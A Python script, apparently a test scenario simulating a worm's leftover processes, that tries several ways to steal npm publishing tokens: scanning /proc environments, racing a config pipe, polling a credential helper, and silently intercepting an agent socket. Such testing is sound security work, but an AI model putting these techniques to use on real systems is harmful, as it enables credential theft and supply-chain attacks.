"""What the worm leaves behind: started by the next command, or waiting in the background for it."""
import sys
import threading

from wire import *
from reading import descriptors, read_once

name = sys.argv[1]
until = time.monotonic() + 300


def watch(look):
    while time.monotonic() < until:
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or int(pid) == os.getpid():
                continue
            try:
                got = look(pid) if own(pid) else b""
            except OSError:
                continue
            if re.search(TOKEN, got):
                return report(name, got)


def race(pid):
    """Only the pipe that is named as npm's configuration: reading another one's pipes would end what it does."""
    named = re.search(rb"globalconfig=/proc/self/fd/(\d+)", environ(pid))
    return read_once(f"/proc/{pid}/fd/{named.group(1).decode()}") if named else b""


def keep_asking():
    """For publishing, as itself and as the helper of whoever it is told to be, while the person works on."""
    while time.monotonic() < until:
        for holder in ["self", "parent"]:
            try:
                got = ask("token", {"url": url("npm"), "format": "npm", "purpose": "publish", "holder": holder})
            except OSError:
                continue
            if re.search(TOKEN, got):
                report(name, got)
        time.sleep(0.1)


def copy(source, target):
    try:
        while more := source.recv(65536):
            if GIVEN.search(more):
                report(name, more)
            target.sendall(more)
        target.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def stand_between():
    """What comes is reported and handed on, so that nobody notices."""
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(agent_socket)
        listener.listen()
        while True:
            client, _ = listener.accept()
            real = socket.socket(socket.AF_UNIX)
            real.connect(f"{agent_socket}.real")
            threading.Thread(target=copy, args=(client, real), daemon=True).start()
            threading.Thread(target=copy, args=(real, client), daemon=True).start()


if name == "later-environments":
    watch(environ)
elif name == "pipe-race":
    watch(race)
elif name == "ask-later":
    keep_asking()
elif name == "replace-socket":
    stand_between()
elif name == "own-shims":
    report(name, run(vouch, "credential", "codeartifact"))
else:
    report(name, environ("self") + environ(os.getppid()) + " ".join(sys.argv).encode() + descriptors("self"))
